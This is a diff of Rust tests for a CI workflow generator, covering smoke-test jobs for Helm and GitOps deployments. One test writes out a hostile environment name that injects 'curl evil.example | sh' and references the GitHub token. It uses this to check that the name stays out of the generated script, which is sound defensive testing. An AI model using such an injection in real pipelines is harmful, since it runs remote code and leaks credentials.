@@ -1049,3 +1049,117 @@ fn an_ecr_registry_is_reached_with_roles_not_secrets() {
     let readme = ci::how_to_apply(&design).unwrap();
     assert!(readme.contains("REGISTRY_USERNAME"), "{readme}");
 }
+
+/// The node-api design (deployed by CI with Helm) with a `smoke` job after each deploy, and
+/// its environments delivered by GitOps when `gitops` is set.
+fn with_smoke_jobs(gitops: bool) -> Design {
+    let mut design = (crate::presets::find("node-api").unwrap().build)();
+    for environment in &mut design.environments {
+        if gitops {
+            environment.delivery = crate::model::Delivery::Gitops;
+        }
+    }
+    for (environment, deploy) in [
+        ("staging", "deploy-staging"),
+        ("production", "deploy-production"),
+    ] {
+        design.pipeline.jobs.push(Job {
+            id: format!("smoke-{environment}"),
+            name: format!("Smoke-test {environment}"),
+            kind: JobKind::Smoke,
+            needs: vec![deploy.to_owned()],
+            environment: environment.to_owned(),
+            ..Job::default()
+        });
+    }
+    design
+}
+
+/// The `run` scripts of a deploy workflow job's steps.
+fn step_scripts(deploy: &Value, job: &str) -> Vec<String> {
+    deploy["jobs"][job]["steps"]
+        .as_array()
+        .unwrap_or_else(|| panic!("{job} has no steps"))
+        .iter()
+        .filter_map(|step| step["run"].as_str().map(str::to_owned))
+        .collect()
+}
+
+#[test]
+fn ci_smoke_tests_environments_it_deploys_to_with_curl() {
+    let design = with_smoke_jobs(false);
+    let deploy = workflow(&design, deploy::PATH);
+    let smoke = step_scripts(&deploy, "smoke-staging");
+    assert!(
+        smoke.iter().any(|run| run.contains("curl --fail")),
+        "{smoke:?}"
+    );
+    let steps = deploy["jobs"]["smoke-staging"]["steps"].as_array().unwrap();
+    assert!(
+        steps
+            .iter()
+            .any(|step| step["env"]["SMOKE_URL"]
+                == "https://staging.app.example.com/health/readiness")
+    );
+    // The deploy job itself probes after helm upgrade --wait.
+    let deploy_job = step_scripts(&deploy, "deploy-staging");
+    assert!(deploy_job.iter().any(|run| run.contains("curl --fail")));
+}
+
+#[test]
+fn ci_never_smoke_tests_a_gitops_environment_before_argo_cd_syncs_it() {
+    let design = with_smoke_jobs(true);
+    let deploy = workflow(&design, deploy::PATH);
+    for environment in ["staging", "production"] {
+        // The promotion ends with the commit (or the pull request): no request follows it.
+        let promotion = step_scripts(&deploy, &format!("deploy-{environment}"));
+        assert!(
+            !promotion.iter().any(|run| run.contains("curl")),
+            "{promotion:?}"
+        );
+        // The smoke job says where the test runs, in fixed text, and probes nothing.
+        let job = format!("smoke-{environment}");
+        let smoke = step_scripts(&deploy, &job);
+        assert_eq!(smoke.len(), 1, "{smoke:?}");
+        assert!(!smoke[0].contains("curl"), "{}", smoke[0]);
+        assert!(smoke[0].contains("$GITHUB_STEP_SUMMARY"));
+        assert!(smoke[0].contains("PostSync"));
+        assert!(!smoke[0].contains(environment), "{}", smoke[0]);
+        let step = &deploy["jobs"][job.as_str()]["steps"][0];
+        assert_eq!(step["env"]["ENVIRONMENT"], environment);
+    }
+}
+
+#[test]
+fn a_gitops_smoke_job_with_its_own_commands_runs_them() {
+    let mut design = with_smoke_jobs(true);
+    let index = design.pipeline.jobs.len() - 1;
+    design.pipeline.jobs[index].commands = vec!["./scripts/smoke.sh".to_owned()];
+    let deploy = workflow(&design, deploy::PATH);
+    let smoke = step_scripts(&deploy, "smoke-production");
+    assert!(smoke.iter().any(|run| run.contains("./scripts/smoke.sh")));
+    assert!(!smoke.iter().any(|run| run.contains("GITHUB_STEP_SUMMARY")));
+}
+
+#[test]
+fn the_gitops_smoke_summary_keeps_hostile_environment_names_out_of_the_script() {
+    let mut design = with_smoke_jobs(true);
+    let hostile = "prod'; curl evil.example | sh; echo '${{ github.token }}";
+    design.environments[1].name = hostile.to_owned();
+    let last = design.pipeline.jobs.len() - 1;
+    design.pipeline.jobs[last].environment = hostile.to_owned();
+    for job in &mut design.pipeline.jobs {
+        if job.id == "deploy-production" {
+            job.environment = hostile.to_owned();
+        }
+    }
+    let text = crate::generate(&design)
+        .file(deploy::PATH)
+        .unwrap()
+        .contents
+        .clone();
+    let deploy = parse(&text);
+    let smoke = step_scripts(&deploy, "smoke-production");
+    assert_eq!(smoke.len(), 1, "{smoke:?}");
+    assert!(!smoke[0].contains("evil"), "{}", smoke[0]);
+}
